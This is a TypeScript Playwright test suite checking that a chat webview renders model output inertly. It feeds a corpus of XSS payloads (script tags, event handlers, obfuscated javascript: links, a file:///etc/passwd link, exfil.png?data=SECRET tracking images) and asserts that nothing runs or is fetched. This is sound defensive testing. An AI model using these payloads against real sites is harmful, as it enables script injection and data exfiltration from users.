// Model output is untrusted. A corpus of XSS and exfiltration payloads, rendered one-shot and streamed:
// no script runs (a sentinel the payloads try to set stays empty, alert and friends are trapped), no
// request leaves the page (Playwright sees every request; a second loopback server counts hits), raw
// HTML shows as text, and the only things clickable are http(s) links that go through the host.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { assistantMessage, chunk, type ChatPage, closePage, launch, openPage, type Server, snapshot, startServer, startTrap, userMessage } from './harness';

let browser: Browser;
let server: Server;
let trap: Awaited<ReturnType<typeof startTrap>>;

before(async () => {
  [browser, server, trap] = await Promise.all([launch(), startServer(), startTrap()]);
});

after(async () => {
  await browser?.close();
  await server?.close();
  await trap?.close();
});

function corpus(t: string): string[] {
  const pwn = (tag: string) => `window.__pwned.push('${tag}')`;
  return [
    `<script>${pwn('script')}</script>`,
    `<img src=x onerror="${pwn('img-onerror')}">`,
    `<img src="${t}/raw-img.png">`,
    `![tracking pixel](${t}/md-image.png?q=secret)`,
    `![remote](https://example.invalid/exfil.png?data=SECRET)`,
    `[click me](javascript:${pwn('js-link')})`,
    `[mixed case](JaVaScRiPt:alert(1))`,
    `[encoded](jav&#x61;script:alert(1))`,
    `[encoded2](jav&#97;script&colon;alert(1))`,
    `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[vb](vbscript:msgbox(1))`,
    `[file](file:///etc/passwd)`,
    `<svg onload="${pwn('svg')}"><circle r="10"/></svg>`,
    `<iframe src="${t}/iframe"></iframe>`,
    `<object data="${t}/object"></object><embed src="${t}/embed">`,
    `<style>body{background:url(${t}/style-bg)}</style>`,
    `<meta http-equiv="refresh" content="0;url=${t}/refresh">`,
    `<form action="${t}/form"><button>Go</button></form>`,
    `<a href="${t}/raw-a" onclick="${pwn('raw-a')}">raw anchor</a>`,
    `<javascript:alert(1)>`,
    `Autolink <${t}/autolink> and bare ${t}/bare`,
    `&lt;script&gt;${pwn('entity')}&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;`,
    `<details open ontoggle="${pwn('details')}"><summary>x</summary></details>`,
    `<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
    `<link rel="stylesheet" href="${t}/link.css">`,
    `<base href="${t}/">\n\n[relative](relative/path) ![rel](rel.png)`,
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '```js onload=alert(1)\nlet x = "</code></pre><img src=x onerror=alert(1)>";\n```',
    `[title breakout](https://example.com" onmouseover="alert(1))`,
    `[![nested](${t}/nested.png)](javascript:alert(1))`,
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
    `| a |\n|---|\n| <img src=x onerror=alert(1)> |`,
    `[ref link][r]\n\n[r]: javascript:alert(1)`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    `![png](data:image/png;base64,iVBORw0KGgo=)`,
    `<img srcset="${t}/srcset.png 1x">`,
    `[zero width](java\u200bscript:alert(1)) [tab](java\tscript:alert(1))`,
    `<div style="background:url(${t}/inline-style)">styled</div>`,
    `<template><script>${pwn('template')}</script></template>`,
  ];
}

const ALLOWED_TAGS = new Set(['P', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'PRE', 'CODE', 'SPAN', 'EM', 'STRONG', 'S', 'DEL', 'HR', 'BR', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'A', 'DIV', 'BUTTON']);

// Everything inside rendered answers: only allowed tags, no attribute that can load or run anything.
async function inspect(chat: ChatPage) {
  return chat.page.evaluate((allowed) => {
    const bad: string[] = [];
    for (const el of Array.from(document.querySelectorAll('.markdown-body *'))) {
      // The code toolbar's icons are built by the page: exactly these attributes, nothing else.
      const icon = el.closest('.code-toolbar > button.code-action > svg.icon-svg');
      if (icon) {
        const ok = el === icon ? ['viewBox', 'width', 'height', 'aria-hidden', 'focusable', 'class'] : ['d', 'fill', 'stroke', 'stroke-width', 'stroke-linecap', 'stroke-linejoin'];
        if (el !== icon && el.tagName !== 'path') bad.push(`icon child ${el.tagName}`);
        for (const a of Array.from(el.attributes)) if (!ok.includes(a.name)) bad.push(`icon ${el.tagName} @${a.name}`);
        continue;
      }
      if (!allowed.includes(el.tagName)) bad.push(`tag ${el.tagName}`);
      for (const a of Array.from(el.attributes)) {
        if (/^on|^(href|src|srcset|style|action|formaction|data|background|poster|xlink:href)$/i.test(a.name)) bad.push(`${el.tagName} @${a.name}=${a.value}`);
      }
      const href = (el as HTMLElement).dataset?.href;
      if (href !== undefined && !/^https?:\/\//.test(href)) bad.push(`data-href ${href}`);
    }
    return bad;
  }, [...ALLOWED_TAGS]);
}

// Click every link-like thing, including the blocked ones, and hover the rest.
async function clickEverything(chat: ChatPage) {
  const targets = chat.page.locator('.markdown-body a, .markdown-body .md-link-blocked, .markdown-body .md-image');
  const n = await targets.count();
  for (let i = 0; i < n; i++) {
    await targets.nth(i).click({ force: true });
    await targets.nth(i).click({ force: true, button: 'middle' });
  }
  return n;
}

async function verdict(chat: ChatPage, requests: string[]) {
  await chat.page.waitForTimeout(300); // give any stray load or timer a chance to fire
  const [pwned, dialogs] = await Promise.all([chat.page.evaluate(() => window.__pwned), chat.page.evaluate(() => window.__dialogs)]);
  assert.deepEqual(pwned, [], 'a payload ran script');
  assert.equal(dialogs, 0, 'a payload opened a dialog');
  assert.deepEqual(trap.hits, [], 'a request reached the trap server');
  const allowed = new Set([`${server.origin}/chat.html`, `${server.origin}/dist/webview.js`, `${server.origin}/media/chat.css`]);
  assert.deepEqual(requests.map((u) => u.split('?')[0]).filter((u) => !allowed.has(u)), [], 'the page requested something besides its shell and two assets');
  assert.ok(chat.page.url().startsWith(`${server.origin}/chat.html`), 'the page navigated');
  assert.deepEqual(await inspect(chat), []);
  for (const m of await chat.postedOf('openLink')) assert.match(m.href, /^https?:\/\//);
  await chat.assertClean(); // no CSP violation either: nothing even tried to load
}

async function open(): Promise<{ chat: ChatPage; requests: string[] }> {
  trap.hits.length = 0;
  const requests: string[] = [];
  const chat = await openPage(browser, server);
  chat.page.on('request', (r) => requests.push(r.url()));
  chat.page.on('popup', () => requests.push('popup'));
  return { chat, requests };
}

test('XSS corpus, one-shot: inert, shown as text, nothing fetched', async () => {
  const payloads = corpus(trap.origin);
  assert.ok(payloads.length >= 25);
  const { chat, requests } = await open();
  const messages = payloads.flatMap((p, i) => [userMessage(`u${i}`, p), assistantMessage(`a${i}`, p)]);
  await chat.post(snapshot({ messages }));
  await chat.frames();
  await verdict(chat, requests);
  // Raw HTML is text: the reader sees the tags.
  assert.match((await chat.page.locator('[data-message-id="a0"] .markdown-body').textContent()) ?? '', /<script>window\.__pwned\.push\('script'\)<\/script>/);
  assert.match((await chat.page.locator('[data-message-id="u1"] .user-text').textContent()) ?? '', /<img src=x onerror=/);
  // Images are links showing alt and URL, never <img>.
  const image = chat.page.locator('[data-message-id="a3"] .md-image');
  assert.equal(await image.textContent(), `Image: tracking pixel (${trap.origin}/md-image.png?q=secret)`);
  assert.equal(await chat.page.locator('img, iframe, object, embed, video, audio, form, style:not([nonce]), meta[http-equiv="refresh"], base').count(), 0);
  // The only <svg>s are the page's own icons (inspect() checks those inside messages, attribute by attribute).
  assert.equal(await chat.page.locator('svg:not(.icon-svg)').count(), 0);
  const clicked = await clickEverything(chat);
  assert.ok(clicked >= 10, `${clicked} link-like elements`);
  // Clicking the trap's own http link asks the host; the page fetches nothing itself.
  assert.ok((await chat.postedOf('openLink')).some((m) => m.href.startsWith(trap.origin)));
  await verdict(chat, requests);
  await closePage(chat);
});

test('XSS corpus, streamed in small deltas: inert at every frame', async () => {
  const payloads = corpus(trap.origin);
  const { chat, requests } = await open();
  await chat.post(snapshot({ messages: [userMessage('u', 'q')] }), {
    type: 'messageAdded',
    message: assistantMessage('a', '', { status: 'streaming' }),
  });
  const all = payloads.join('\n\n');
  for (const t of chunk(all, 5, 5)) {
    await chat.post({ type: 'delta', messageId: 'a', text: t, reasoning: t });
    await chat.frames(1);
  }
  await chat.post({ type: 'messageDone', messageId: 'a', status: 'done' });
  await clickEverything(chat);
  await verdict(chat, requests);
  await closePage(chat);
});

test('the harness enforces the CSP: a script without the nonce does not run', async () => {
  const chat = await openPage(browser, server);
  await chat.page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = "window.__pwned.push('no-nonce')";
    document.body.appendChild(s);
    const d = document.createElement('div');
    d.setAttribute('style', 'color: red');
    document.body.appendChild(d);
  });
  await chat.page.waitForTimeout(100);
  assert.deepEqual(await chat.page.evaluate(() => window.__pwned), []);
  const directives = (await chat.violations()).map((v) => v.directive);
  assert.ok(directives.includes('script-src-elem'), directives.join());
  assert.ok(directives.includes('style-src-attr'), directives.join());
  await closePage(chat);
});
